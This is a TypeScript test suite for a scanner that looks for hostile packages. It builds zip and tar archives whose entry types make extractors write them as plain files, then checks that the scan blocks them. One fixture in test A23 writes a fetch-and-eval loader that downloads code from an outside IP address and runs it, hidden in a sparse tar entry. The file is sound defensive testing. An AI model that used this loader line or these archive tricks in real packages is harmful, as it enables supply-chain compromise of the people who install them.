/**
 * Archive entries that extractors write as plain files although their type says otherwise: zip entries whose Unix
 * mode is a fifo, a character or block device, a socket or a directory without its slash (unzip and Python's zipfile
 * write each as a regular file with its content), and tar typeflags POSIX and GNU tar extract as regular files
 * (an unknown flag such as '8', contiguous '7', GNU sparse 'S'). Built with Python's zipfile and tarfile and GNU tar;
 * each case first shows that the real extractor writes the lure as a file, then that the scan reads it.
 */
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import { lstatSync, mkdirSync, readFileSync, truncateSync, appendFileSync } from 'node:fs';
import path from 'node:path';
import { assertIncomplete, PACKAGE_LURE, sandbox, scanHostile, write, type Sandbox } from './harness.js';

function python(script: string, ...args: string[]): void {
  execFileSync('python3', ['-c', script, ...args], { stdio: ['ignore', 'pipe', 'pipe'] });
}

const ZIP_TYPES: [string, number][] = [
  ['fifo', 0o010644],
  ['chr', 0o020644],
  ['dir', 0o040755],
  ['blk', 0o060644],
  ['sock', 0o140644],
];

describe('hostile archives: entries extractors treat as plain files (CLI, sandboxed)', function () {
  this.timeout(180_000);
  let sb: Sandbox;
  afterEach(() => sb?.cleanup());

  it('A20 zip entries whose mode says fifo, device, socket or directory (no slash): unzip writes them, the scan reads them', async () => {
    sb = sandbox('a20');
    const zip = path.join(sb.target, 'a20.zip');
    python(
      `import sys, zipfile, json
data = open(sys.argv[2], 'rb').read()
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    for name, mode in json.loads(sys.argv[3]):
        zi = zipfile.ZipInfo('p/%s/package.json' % name); zi.create_system = 3; zi.external_attr = mode << 16
        z.writestr(zi, data)`,
      zip,
      writeLure(sb),
      JSON.stringify(ZIP_TYPES),
    );
    const out = path.join(sb.root, 'unzipped');
    execFileSync('unzip', ['-q', zip, '-d', out]);
    for (const [name] of ZIP_TYPES) assert.ok(lstatSync(path.join(out, 'p', name, 'package.json')).isFile(), `unzip wrote ${name} as a file`);
    const { result } = await scanHostile(sb, zip);
    assert.equal(result!.verdict, 'block');
    for (const [name] of ZIP_TYPES) {
      assert.ok(result!.findings.some((f) => f.location.file === `${name}/package.json`), `the lure in the ${name} entry was read`);
      assert.ok(result!.diagnostics.some((d) => d.code === 'archive-odd-entry' && d.file === `p/${name}/package.json`), `the ${name} entry is named`);
    }
  });

  it('A21 the same zip inside a folder (nested archive): the lure blocks', async () => {
    sb = sandbox('a21');
    mkdirSync(path.join(sb.target, 'assets'));
    python(
      `import sys, zipfile
data = open(sys.argv[2], 'rb').read()
with zipfile.ZipFile(sys.argv[1], 'w') as z:
    zi = zipfile.ZipInfo('setup/package.json'); zi.create_system = 3; zi.external_attr = 0o010644 << 16
    z.writestr(zi, data)`,
      path.join(sb.target, 'assets', 'setup.zip'),
      writeLure(sb),
    );
    const { result } = await scanHostile(sb);
    assert.equal(result!.verdict, 'block');
  });

  it('A22 tar typeflags POSIX extracts as regular files (unknown 8, contiguous 7): GNU tar writes them, the scan reads them', async () => {
    sb = sandbox('a22');
    const tarFile = path.join(sb.target, 'a22.tar');
    python(
      `import sys, io, tarfile
data = open(sys.argv[2], 'rb').read()
with tarfile.open(sys.argv[1], 'w', format=tarfile.GNU_FORMAT) as tf:
    for name, flag in (('p/eight/package.json', b'8'), ('p/seven/package.json', b'7'), ('p/vendor/package.json', b'Q')):
        ti = tarfile.TarInfo(name); ti.type = flag; ti.size = len(data); tf.addfile(ti, io.BytesIO(data))`,
      tarFile,
      writeLure(sb),
    );
    const out = path.join(sb.root, 'untarred');
    mkdirSync(out);
    execFileSync('tar', ['-xf', tarFile, '-C', out], { stdio: ['ignore', 'pipe', 'pipe'] });
    for (const name of ['eight', 'seven', 'vendor']) assert.equal(readFileSync(path.join(out, 'p', name, 'package.json'), 'utf8'), PACKAGE_LURE, `GNU tar wrote ${name} as a file`);
    const { result } = await scanHostile(sb, tarFile);
    assert.equal(result!.verdict, 'block');
    for (const name of ['eight', 'seven', 'vendor']) assert.ok(result!.findings.some((f) => f.location.file === `${name}/package.json`), `the lure in ${name} was read`);
    // An unknown flag is read as a file and still named: its layout on disk is tar's business, not proven here.
    assertIncomplete(result, 'archive-odd-entry');
  });

  it('A23 a GNU sparse file (typeflag S, made by tar --sparse): read, and the scan says its layout was not rebuilt', async () => {
    sb = sandbox('a23');
    const src = path.join(sb.root, 'sparse-src');
    const js = path.join(src, 'p', 'setup.js');
    write(js, 'fetch("http://45.61.1.2:1224/pdown").then(r=>r.text()).then(eval);\n');
    truncateSync(js, 2 * 1024 * 1024);
    appendFileSync(js, '\n');
    const tarFile = path.join(sb.target, 'a23.tar');
    execFileSync('tar', ['--sparse', '--format=gnu', '-cf', tarFile, '-C', src, 'p']);
    assert.equal(readFileSync(tarFile)[512 + 156], 'S'.charCodeAt(0), 'GNU tar stored a sparse entry');
    const { result } = await scanHostile(sb, tarFile);
    assert.ok(result!.verdict !== 'pass' || !result!.complete, 'a hidden payload read as a clean pass');
    assertIncomplete(result, 'archive-odd-entry');
  });
});

function writeLure(sb: Sandbox): string {
  const f = path.join(sb.root, 'lure.json');
  write(f, PACKAGE_LURE);
  return f;
}
